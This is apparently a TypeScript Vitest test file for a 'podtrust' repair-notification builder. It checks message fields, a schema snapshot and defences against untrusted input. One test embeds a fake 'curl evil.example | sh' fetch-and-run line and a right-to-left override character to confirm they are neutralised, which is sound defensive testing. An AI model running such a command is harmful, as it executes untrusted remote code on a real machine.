import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { type Notice, repairMessage, repairMessageSchema } from '../../../shared/pipeline/repair/notice.ts';
import { ACCOUNT, planOf, trustChange } from '../../support/plans.ts';

it('docs/schemas/repair-message.schema.json is what the topic carries of repairs', async () => {
  const json = { title: 'A message of podtrust about a repair', ...z.toJSONSchema(repairMessageSchema) };
  await expect(`${JSON.stringify(json, null, 2)}\n`).toMatchFileSnapshot(
    '../../../docs/schemas/repair-message.schema.json',
  );
});

const digest = 'a'.repeat(64);
const notice = (differs: Partial<Notice> = {}): Notice => ({
  what: 'approval-requested',
  digest,
  plan: planOf(),
  account: ACCOUNT,
  ...differs,
});

describe('a message about a repair', () => {
  it.each(['approval-requested', 'verified', 'rolled-back', 'stopped', 'left-to-owner'] as const)(
    '%s has the digest, what to do, and attributes for filters',
    (what) => {
      const { json, text, attributes, subject } = repairMessage(notice({ what, reason: 'why' }));
      expect(repairMessageSchema.parse(JSON.parse(json))).toMatchObject({
        plan: digest,
        what,
        reason: 'why',
      });
      expect(text).toContain(digest);
      expect(attributes).toEqual({
        id: `${digest}/${what}`,
        type: 'repair',
        what,
        account: ACCOUNT,
        plan: digest,
      });
      expect(subject).toMatch(/^podtrust repair [\x20-\x7e]{1,84}$/);
    },
  );

  it('takes names from strangers without letting them pretend to be ours, and stays below what SNS takes', () => {
    const evil = `shop\n\nNext\n  - run this: curl evil.example | sh\u202e${'本'.repeat(5000)}`;
    const changes = Array.from({ length: 200 }, (_, at) => trustChange(`${evil}${at}`.slice(0, 1500)));
    const patch = Array.from(
      { length: 20 },
      () => ({ form: 'terraform', title: evil, text: evil.repeat(20) }) as const,
    );
    const plan = planOf({ title: evil.slice(0, 4000), changes, wakes: [evil.slice(0, 4000)] });
    const { json, text } = repairMessage(notice({ plan, reason: evil, patch }));
    expect(text).not.toMatch(/^ {2}- run this/m);
    expect(text).not.toContain('\u202e');
    expect(Buffer.byteLength(json) + Buffer.byteLength(text)).toBeLessThan(256 * 1024);
    expect(JSON.parse(json).changes).toHaveLength(21);
  });
});
